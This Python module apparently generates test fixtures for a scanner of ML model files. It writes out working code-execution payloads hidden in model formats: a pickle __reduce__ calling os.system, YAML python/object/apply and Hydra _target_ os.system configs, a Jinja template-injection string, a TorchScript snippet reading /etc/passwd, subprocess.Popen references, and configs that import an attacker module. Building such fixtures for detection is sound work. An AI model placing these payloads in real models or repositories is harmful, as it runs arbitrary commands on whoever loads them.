"""Vectors in what stands beside the tensors of a file that a format takes for its own: texts of an archive, other programs' metadata, the data
of another file, what only begins like a pointer."""

import gzip
import io
import json
import pickle
import zipfile

from attack import COMMAND, PYTHON, Table
from attack_formats import MODEL

ATTACKS = Table()
TAGGED = f"a: !!python/object/apply:os.system ['{COMMAND}']\n"
POINTER = "version https://git-lfs.github.com/spec/"
ESCAPE = "{{ cycler.__init__.__globals__.os.system('" + COMMAND + "') }}"


class Evil:
    def __reduce__(self):
        import os

        return os.system, (COMMAND,)


def zipped(members):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return target.getvalue()


def array():
    import numpy

    target = io.BytesIO()
    numpy.save(target, numpy.zeros(3, "f4"))
    return target.getvalue()


def objects():
    import numpy

    target = io.BytesIO()
    numpy.save(target, numpy.array([Evil()], dtype=object))
    return target.getvalue()


# --- what begins like a pointer of Git LFS ------------------------------------------------------------------------------------------
ATTACKS.text("content-mismatch/lfs_pointer_yaml", f"{POINTER}: 1\n{TAGGED}", "hyperparams.yaml", fire="yaml")
ATTACKS.text("content-mismatch/lfs_pointer_template", POINTER + ESCAPE, "chat_template.jinja", fire="jinja")
ATTACKS.text("content-mismatch/lfs_pointer_target", f"{POINTER}v1: a\nb: {{_target_: os.system, command: '{COMMAND}'}}\n", "conf.yaml", fire="hydra")

# --- texts of an archive that holds an array ----------------------------------------------------------------------------------------
SCHEMA = {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ListNode", "content": [], "protocol": 2, "_skops_version": "0.16"}
MANIFEST = {"model": {"handler": "evil.py:handle", "serializedFile": "x.npy", "modelName": "m"}, "createdOn": "x"}
KERAS = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}, "registered_name": None}
REMOTE = {"model_type": "mine", "auto_map": {"AutoConfig": "c.C"}}
CODE = ("code", "malicious")
ATTACKS.data("nested-config/skops_with_an_array", lambda: zipped([("schema.json", json.dumps(SCHEMA)), ("140.npy", array())]), "model.skops")
ATTACKS.data("code-by-reference/handler_with_an_array", lambda: zipped([("MAR-INF/MANIFEST.json", json.dumps(MANIFEST)), ("evil.py", PYTHON), ("x.npy", array())]), "m.mar", CODE)
ATTACKS.data("code-by-reference/auto_map_with_an_array", lambda: zipped([("config.json", json.dumps(REMOTE)), ("c.py", PYTHON), ("x.npy", array())]), "repository.zip", CODE)
ATTACKS.data("nested-config/yaml_with_an_array", lambda: zipped([("hyperparams.yaml", TAGGED), ("x.npy", array())]), "y.zip")


@ATTACKS.made("nested-config/skops_with_a_keras_model")
def skops_with_a_keras_model(folder):
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_group("layers")
    parts = [("metadata.json", "{}"), ("config.json", json.dumps(KERAS)), ("model.weights.h5", weights.getvalue()), ("schema.json", json.dumps(SCHEMA))]
    path = folder / "model.skops"
    path.write_bytes(zipped(parts))
    return path


def package(path, extra=(), front=()):
    """A torch.package whose pickle makes an object of its own module, with members more; `front` stands before the rest."""
    import torch.package

    whole = io.BytesIO()
    with torch.package.PackageExporter(whole) as exporter:
        exporter.save_source_string("evil", f"{PYTHON}\n")
        exporter.save_pickle("model", "model.pkl", {})
    with zipfile.ZipFile(whole) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    root = members[0][0].split("/")[0]
    path.write_bytes(zipped([(f"{root}/{name}", data) for name, data in front] + members + [(f"{root}/{name}", data) for name, data in extra]))
    return path


@ATTACKS.made("code-by-reference/package_with_an_array", CODE)
def package_with_an_array(folder):
    return package(folder / "package.pt", extra=[("x.npy", array())])


@ATTACKS.made("code-by-reference/package_with_a_state_dict", CODE)
def package_with_a_state_dict(folder):
    return package(folder / "package.pt", front=[("data.pkl", pickle.dumps({}, 2))])


@ATTACKS.made("code-by-reference/package_as_data_of_onnx", CODE)
def package_as_data_of_onnx(folder):
    import onnx
    from onnx import helper

    x, y = (helper.make_tensor_value_info(name, 1, [1]) for name in "xy")
    model = helper.make_model(helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", [x], [y]))
    onnx.save(model, folder / "model.onnx")
    return package(folder / "model.onnx.data")


# --- other members of a file ----------------------------------------------------------------------------------------------------------
ATTACKS.data("content-mismatch/npz_objects_as_the_tree", lambda: zipped([("a.npy", array()), ("holdall.tree", objects())]), "model.npz", fire="numpy_members")

FORWARD = "op_version_set = 1\ndef forward(self,\n    x: Tensor) -> Tensor:\n  return torch.add(x, torch.from_file(\"/etc/passwd\", False, 4, dtype=0), alpha=1)\n"
FIRST = {"protoVersion": "6", "mainModule": {"torchscriptArena": {"key": "code/m.py"}, "name": "m", "optimize": True}, "producerName": "pytorch",
         "producerVersion": "1.0", "tensors": []}  # fmt: skip
# torch 2.13 refuses model.json; 1.4 and older load it, and look for the version there first.
ATTACKS.data(
    "code-by-reference/script_of_torch_1_by_its_other_version",
    lambda: zipped([("m/model.json", json.dumps(FIRST)), ("m/code/m.py", FORWARD), ("m/.data/version", "1\n")]), "model.pt", ("code", "malicious"),
)  # fmt: skip

# --- MLflow and zarr ---------------------------------------------------------------------------------------------------------------------
BOOSTER = """flavors:
  python_function:
    loader_module: mlflow.xgboost
    python_version: 3.11.2
  xgboost:
    data: model.ubj
    model_class: {}
"""
KERAS_FLAVOR = "flavors:\n  tensorflow:\n    data: data\n    model_type: keras\n    keras_module: evilmod\n"
ATTACKS.repository("folder_mlflow_model_class", {"MLmodel": BOOSTER.format("evilmod.Model"), "evilmod.py": PYTHON})
ATTACKS.repository("folder_mlflow_model_class_of_os", {"MLmodel": BOOSTER.format("os.abort")})
ATTACKS.repository("folder_mlflow_keras_module", {"MLmodel": KERAS_FLAVOR, "evilmod.py": PYTHON})
ATTACKS.repository("folder_mlflow_pickle_module", {"data/pickle_module_info.txt": "evilmod", "evilmod.py": PYTHON})
ATTACKS.repository("folder_mlflow_keras_module_of_a_text", {"data/keras_module.txt": "evilmod", "evilmod.py": PYTHON})
ARRAY = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "fill_value": None, "order": "C", "filters": [{"id": "pickle", "protocol": 5}]}
ATTACKS.repository("folder_zarr_pickles", {"model.safetensors": MODEL, "w.zarr/.zarray": json.dumps(ARRAY), "w.zarr/0": "Y29z"})
ATTACKS.repository("folder_zarr_pickles_of_all", {"model.safetensors": MODEL, "w.zarr/.zmetadata": json.dumps({"zarr_consolidated_format": 1, "metadata": {"a/.zarray": ARRAY}})})
ATTACKS.data("code-by-reference/sagemaker_inference", lambda: tarred([("model.safetensors", MODEL), ("code/inference.py", PYTHON.encode())]), "model.tar.gz", CODE)


def tarred(members):
    import tarfile

    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return target.getvalue()


# --- a stream that ends within the last window of a search -------------------------------------------------------------------------------
WINDOWS = (17 << 20) + (256 << 10) + 3000
ATTACKS.data("broken-off/stream_ends_in_a_window", lambda: gzip.compress(b"\x80\x04I" + b"1" * 5000 + b"\n0" + b"0" * WINDOWS), "model.pkl.gz", ("unreadable",))

# --- a dotted name in front of another format ------------------------------------------------------------------------------------------------
DOTTED = b"\x80\x04\x8c\x07evilmod\x8c\x03A.b\x93)R."


@ATTACKS.made("content-mismatch/dotted_name_in_front_of_hdf5", CODE)
def dotted_name_in_front_of_hdf5(folder):
    import h5py

    path = folder / "model.h5"
    with h5py.File(path, "w", userblock_size=512) as file:
        file.create_group("layers")
    data = bytearray(path.read_bytes())
    data[: len(DOTTED)] = DOTTED
    path.write_bytes(data)
    return path


# --- names that loaders import ------------------------------------------------------------------------------------------------------------
def with_tree(folder, context, kind="builtins.tuple"):
    """A program of torch.export, whose tree of arguments has this context."""
    import torch

    class Plus(torch.nn.Module):
        def forward(self, x):
            return x + 1

    whole = folder / "whole.pt2"
    torch.export.save(torch.export.export(Plus(), (torch.ones(2),)), whole)
    with zipfile.ZipFile(whole) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    whole.unlink()
    for i, (name, data) in enumerate(members):
        if not name.endswith("models/model.json"):
            continue
        program = json.loads(data)
        for call in program["graph_module"]["module_call_graph"]:
            if call.get("signature"):
                protocol, tree = json.loads(call["signature"]["in_spec"])
                call["signature"]["in_spec"] = json.dumps([protocol, tree | {"type": kind, "context": context}])
        members[i] = name, json.dumps(program).encode()
    path = folder / "model.pt2"
    path.write_bytes(zipped(members))
    return path


@ATTACKS.made("code-by-reference/export_tree_of_an_enumeration", CODE)
def export_tree_of_an_enumeration(folder):
    return with_tree(folder, json.dumps({"__enum__": True, "fqn": "evilmod:x", "name": "y"}))


@ATTACKS.made("code-by-reference/export_tree_of_a_library")
def export_tree_of_a_library(folder):
    return with_tree(folder, json.dumps({"__enum__": True, "fqn": "ctypes:cdll", "name": "evil.so"}))


@ATTACKS.made("code-by-reference/export_tree_of_a_factory", CODE)
def export_tree_of_a_factory(folder):
    context = {"default_factory_module": "evilmod", "default_factory_name": "x", "dict_context": []}
    return with_tree(folder, context, "collections.defaultdict")


def sentences(kind, name, config):
    modules = [{"idx": 0, "name": "0", "path": "0_M", "type": f"sentence_transformers.models.{kind}"}]
    return {"modules.json": json.dumps(modules), f"0_M/{name}": json.dumps(config), "evilmod.py": PYTHON}


ROUTER = {"types": {"query_0_X": "evilmod.Evil"}, "structure": {"query": ["query_0_X"]}, "parameters": {}}
ATTACKS.repository("folder_router_by_its_older_name", sentences("Router", "config.json", ROUTER))
ATTACKS.repository("folder_word_embeddings", sentences("WordEmbeddings", "wordembedding_config.json", {"tokenizer_class": "evilmod.Evil", "max_seq_length": 5}))
OMEGA = "model:\n  target: {}\n  cmd: os.system\n  params:\n    command: '" + COMMAND + "'\n"
ATTACKS.text("nested-config/interpolated_target", OMEGA.format("${model.cmd}"), "config.yaml", CODE)
ATTACKS.text("nested-config/interpolated_part_of_a_target", OMEGA.format("${x}s.system"), "config.yaml", CODE)


def exported(context):
    """What transformers reads of a folder that it exported: trees of arguments, by components."""
    leaf = {"type": None, "context": None, "children_spec": []}
    tree = json.dumps([1, {"type": "builtins.tuple", "context": context, "children_spec": [leaf]}])
    metadata = {"architecture": "X", "kwargs": {}, "in_spec": tree, "out_spec": tree}
    return json.dumps({"schema_version": 1, "export_format": "dynamo", "components": {"model": {"file": "model.pt2", "metadata": metadata}}})


ENUMERATION = json.dumps({"__enum__": True, "fqn": "evilmod:x", "name": "y"})
ATTACKS.repository("folder_export_of_transformers", {"export.json": exported(ENUMERATION), "evilmod.py": PYTHON})
ATTACKS.repository("folder_export_that_calls", {"export.json": exported(json.dumps({"_t": "seq", "p": "subprocess:Popen", "v": ["id"]}))})
ATTACKS.repository("folder_megatron_of_an_adapter", {"adapter_config.json": json.dumps({"peft_type": "LORA", "megatron_config": {}, "megatron_core": "evilmod"}), "evilmod.py": PYTHON})
ATTACKS.repository("folder_prompt_of_elsewhere", {"adapter_config.json": json.dumps({"peft_type": "MULTITASK_PROMPT_TUNING", "prompt_tuning_init_state_dict_path": "/etc/passwd"})})
ATTACKS.repository("folder_kernel_of_internals", {"config.json": json.dumps({"model_type": "llama", "_attn_implementation_internal": "who/kernel"})})
MODULAR = {"_class_name": "ModularPipeline", "unet": ["os", "system", {"type_hint": ["diffusers", "UNet2DConditionModel"]}]}
ATTACKS.repository("folder_modular_pipeline", {"modular_model_index.json": json.dumps(MODULAR)})
